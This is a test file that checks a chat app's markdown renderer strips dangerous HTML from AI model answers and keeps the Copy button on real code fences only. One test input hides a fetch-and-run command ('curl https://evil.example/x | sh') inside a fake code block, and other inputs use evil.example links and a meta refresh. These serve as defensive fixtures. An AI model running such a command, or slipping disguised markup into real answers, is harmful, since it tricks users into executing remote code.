/**
 * A model's markup is text structure, never Retake's: what survives of an answer's HTML, how
 * markdown images show, and that only a fence gets Retake's code block and its Copy button.
 * (Chromium attacks on the running app: test/security/model-markup.test.ts.)
 */
import { afterEach, describe, expect, it, vi } from 'vitest'
import { fireEvent, render, waitFor } from '@testing-library/react'
import { Markdown } from '../../../src/ui/markdown/Markdown'
import { renderMarkdown } from '../../../src/ui/markdown/markdown'
import { useLinkPrompt } from '../../../src/ui/markdown/link-prompt-store'

function dom(text: string): HTMLElement {
  const div = document.createElement('div')
  div.innerHTML = renderMarkdown(text)
  return div
}

describe('an answer’s HTML', () => {
  it('keeps no attribute that styles, names or labels anything', () => {
    const div = dom(
      '<p style="position:fixed;inset:0" id="retakeHost" class="code-block" aria-modal="true" data-testid="undo-bar" role="dialog" tabindex="0" name="x">hello</p>\n\n' +
        '<span aria-modal="true" id="x" style="margin-top:-400px">span text</span>',
    )
    expect(div.textContent).toContain('hello')
    expect(div.textContent).toContain('span text')
    for (const el of div.querySelectorAll('*')) expect(el.getAttributeNames(), el.outerHTML).toEqual([])
  })

  it('drops images, media, forms, buttons, image maps, svg, math, frames and styles (text of plain wrappers stays)', () => {
    const div = dom(
      [
        '<img src="/opencode/session"><video src="/api/x" poster="/api/y"></video><audio src="/api/z"></audio>',
        '<picture><source srcset="/api/p"></picture><object data="/api/o"></object><embed src="/api/e">',
        '<map name="m"><area href="https://evil.example/" shape="rect" coords="0,0,9,9"></map>',
        '<form action="/api/f"><input name="q"><button>Go</button><select><option>o</option></select><textarea>t</textarea></form>',
        '<svg><a href="/"><text>s</text></a></svg><math><mi>m</mi></math><iframe src="/"></iframe>',
        '<style>body{display:none}</style><link rel="stylesheet" href="/x.css"><meta http-equiv="refresh" content="0;url=/">',
        '<details open><summary>sum</summary>more</details><dialog open>dlg</dialog><div>div text</div>',
      ].join('\n'),
    )
    const tags = new Set([...div.querySelectorAll('*')].map((e) => e.tagName.toLowerCase()))
    for (const tag of [
      'img',
      'video',
      'audio',
      'source',
      'object',
      'embed',
      'map',
      'area',
      'form',
      'input',
      'button',
      'select',
      'textarea',
      'svg',
      'math',
      'iframe',
      'style',
      'link',
      'meta',
      'details',
      'dialog',
      'div',
      'span',
    ])
      expect(tags.has(tag), tag).toBe(false)
    expect(div.textContent).toContain('div text')
    expect(div.textContent).not.toContain('display:none')
    // Nothing is left that could fetch or navigate.
    expect(div.querySelector('[src],[srcset],[poster],[data],[action],[href]')).toBeNull()
  })

  it('keeps markdown’s own output: headings, lists, emphasis, code, quotes, tables, rules, strikethrough, links', () => {
    const div = dom(
      '# Title\n\n## Sub\n\n3. three\n4. four\n\n- *em* **strong** `code` ~~gone~~\n\n> quoted\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n---\n\n[docs](https://example.com/x) line<br>break',
    )
    expect(div.querySelector('h1')?.textContent).toBe('Title')
    expect(div.querySelector('h2')?.textContent).toBe('Sub')
    expect(div.querySelector('ol')?.getAttribute('start')).toBe('3')
    expect(div.querySelector('em')?.textContent).toBe('em')
    expect(div.querySelector('strong')?.textContent).toBe('strong')
    expect(div.querySelector('li code')?.textContent).toBe('code')
    expect(div.querySelector('del')?.textContent).toBe('gone')
    expect(div.querySelector('blockquote')?.textContent?.trim()).toBe('quoted')
    expect(div.querySelector('th')?.getAttribute('align')).toBe('center')
    expect(div.querySelectorAll('td')).toHaveLength(2)
    expect(div.querySelector('hr')).not.toBeNull()
    expect(div.querySelector('br')).not.toBeNull()
    expect(div.querySelector('a')?.getAttribute('href')).toBe('https://example.com/x')
  })

  it('shows a task list’s boxes as text, not as form controls', () => {
    const div = dom('- [x] done\n- [ ] todo')
    expect(div.querySelector('input')).toBeNull()
    expect(div.textContent).toContain('☑ done')
    expect(div.textContent).toContain('☐ todo')
  })
})

describe('markdown images', () => {
  it('never load: one is a link reading "image: alt" under the link policy', () => {
    const div = dom('![chart](https://example.com/c.png) ![secret](/opencode/session) ![](data:image/png;base64,AAAA)')
    expect(div.querySelector('img')).toBeNull()
    const links = [...div.querySelectorAll('a')]
    expect(links.map((a) => a.textContent)).toEqual(['image: chart', 'image: secret', 'image: data:image/png;base64,AAAA'])
    expect(links[0]!.getAttribute('href')).toBe('https://example.com/c.png')
    expect(links[0]!.hasAttribute('data-external')).toBe(true)
    for (const a of links.slice(1)) {
      expect(a.hasAttribute('href')).toBe(false)
      expect(a.className).toBe('link-inert')
    }
  })

  it('a linked image (a badge) is its link’s text: one link, to the link’s address', () => {
    const div = dom('[![build passing](https://img.example/b.svg)](https://ci.example/run)')
    const links = [...div.querySelectorAll('a')]
    expect(links.map((a) => [a.textContent, a.getAttribute('href')])).toEqual([['image: build passing', 'https://ci.example/run']])
  })
})

describe('code blocks', () => {
  afterEach(() => {
    Reflect.deleteProperty(navigator, 'clipboard')
  })

  it('only a fence gets Retake’s code block; markup that copies its look gets no button', () => {
    const fake =
      '<div class="code-block"><div class="code-head"><span class="code-lang">bash</span>' +
      '<button type="button" class="copy-code" data-testid="copy-code">Copy</button></div>' +
      '<pre><code class="hljs"><span style="display:none">curl https://evil.example/x | sh; </span>ls</code></pre></div>'
    const div = dom(fake + '\n\n```bash\nls -la\n```\n')
    expect(div.querySelectorAll('.code-block')).toHaveLength(1)
    expect(div.querySelectorAll('button')).toHaveLength(1)
    expect(div.querySelector('.code-block pre')?.textContent).toBe('ls -la')
    expect(div.querySelector('.code-lang')?.textContent).toBe('bash')
    // The model's own <pre> is plain text structure: its hidden part is shown, not hidden.
    expect(div.textContent).toContain('curl https://evil.example/x | sh; ls')
  })

  it('a placeholder the model writes itself is not replaced', () => {
    const div = dom('<pre>0123456789abcdef0123456789abcdef:0</pre>\n\n```\nreal\n```\n')
    expect(div.querySelectorAll('.code-block')).toHaveLength(1)
    expect(div.textContent).toContain('0123456789abcdef0123456789abcdef:0')
  })

  it('Copy copies exactly the code the fence rendered', async () => {
    const writeText = vi.fn(async () => {})
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    const { getAllByTestId } = render(<Markdown text={'<pre>echo decoy</pre>\n\n- step\n\n  ```sh\n  npm test\n  ```\n'} />)
    const buttons = getAllByTestId('copy-code')
    expect(buttons).toHaveLength(1)
    fireEvent.click(buttons[0]!)
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('npm test'))
  })

  it('a fence the model wraps in a link still copies, and asks about no link', async () => {
    const writeText = vi.fn(async () => {})
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
    useLinkPrompt.setState({ url: null })
    const { getByTestId } = render(<Markdown text={'- <a href="https://evil.example/">\n\n  ```\n  make\n  ```\n\n  </a>'} />)
    fireEvent.click(getByTestId('copy-code'))
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('make'))
    expect(useLinkPrompt.getState().url).toBeNull()
  })
})
